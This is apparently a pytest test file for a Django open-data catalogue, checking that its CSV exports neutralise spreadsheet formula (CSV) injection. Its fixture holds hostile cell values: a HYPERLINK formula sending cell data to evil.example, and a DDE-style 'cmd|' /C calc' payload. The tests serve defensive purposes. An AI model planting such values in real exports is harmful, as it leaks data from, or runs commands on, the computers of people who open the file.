"""The open-data files are opened in spreadsheets by anyone: a name typed by an applicant
must never run there as a formula (CSV injection)."""

import csv
import io

import pytest

from core.spreadsheets import csv_text, safe_cell

from .sheets import sheet

pytestmark = pytest.mark.django_db

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "organisation_name": "+33 1 23 45 67 89",
    "partners": "-2+3\n\tTabulé",
    "call_title": "\r=1+1",
}


@pytest.fixture
def hostile_sheet(calls_index):
    project = sheet(HOSTILE["title"], HOSTILE["summary"])
    project.organisation_name = HOSTILE["organisation_name"]
    project.partners = HOSTILE["partners"]
    project.call_title = HOSTILE["call_title"]
    project.save()
    return project


def cells(response, delimiter: str) -> list[str]:
    text = response.content.decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize(
    ("url", "delimiter"),
    [("/catalogue/donnees/projets.csv", ";"), ("/catalogue/donnees/subventions-scdl.csv", ",")],
)
def test_no_cell_of_the_open_data_files_starts_a_formula(client, hostile_sheet, url, delimiter):
    response = client.get(url)
    assert response.status_code == 200
    written = cells(response, delimiter)
    assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The hostile text is still all there, behind the apostrophe spreadsheets hide.
    assert "'" + HOSTILE["title"] in written


def test_projects_file_keeps_each_hostile_value_readable(client, hostile_sheet):
    written = cells(client.get("/catalogue/donnees/projets.csv"), ";")
    assert "'" + HOSTILE["summary"] in written
    assert "'" + HOSTILE["organisation_name"] in written
    assert "'" + HOSTILE["call_title"] in written
    assert "'-2+3|Tabulé" in written  # partners, one per line, joined


def test_the_writer_leaves_numbers_and_plain_text_alone():
    assert safe_cell(-1250) == -1250  # a number's minus sign is no formula
    assert safe_cell(None) == ""
    assert safe_cell("Ruche") == "Ruche"
    assert csv_text(["a", "=b"], [["x", "@y"]], delimiter=";") == "a;'=b\r\nx;'@y\r\n"
